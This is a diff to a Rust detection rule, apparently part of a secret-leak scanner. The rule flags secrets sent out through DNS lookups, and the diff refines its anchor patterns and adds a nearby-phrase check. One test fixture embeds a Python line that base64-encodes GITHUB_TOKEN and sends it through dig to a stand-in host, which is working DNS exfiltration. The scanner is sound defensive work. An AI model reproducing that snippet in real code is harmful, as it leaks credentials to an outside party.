@@ -1,6 +1,7 @@
 //! A secret in a name that is looked up.
 
 use crate::fact::{Channel, What};
+use crate::phrase::Phrases;
 use crate::rule::{Category, Check, Hit, Rule, Severity, text};
 use crate::unit::{ANYWHERE, Unit};
 
@@ -13,16 +14,16 @@ pub(super) const RULE: Rule = Rule {
     fix: "remove the lookup",
     places: ANYWHERE,
     anchors: &[
-        "dig ",
+        "\\bdig ",
         "nslookup",
         "gethostbyname",
         "dns.",
         "getaddrinfo",
-        "host ",
+        "\\bhost ",
         "resolve-dnsname",
-        "ping ",
+        "\\bping ",
     ],
-    check: Check::Unit(check),
+    check: Check::Near(&[&NEAR], check),
     hits: &[
         text(
             "```python\nsecret = os.environ['GITHUB_TOKEN']\ne = base64.b64encode(secret.encode()).decode()\nos.popen(f'dig {e}.x.host.test')\n```",
@@ -35,6 +36,9 @@ pub(super) const RULE: Rule = Rule {
         text("```bash\ndig api.host.test\necho $GITHUB_TOKEN\n```"),
     ],
 };
+
+/// What is in every text that it finds something in.
+static NEAR: Phrases = Phrases::new(&[r"\$|environ|getenv|process\.env|\bcat\b|read|open\s*\("]);
 
 fn check(unit: &Unit<'_>) -> Vec<Hit> {
     let flows = unit.reading().flowing().filter(|(source, sink, _)| {
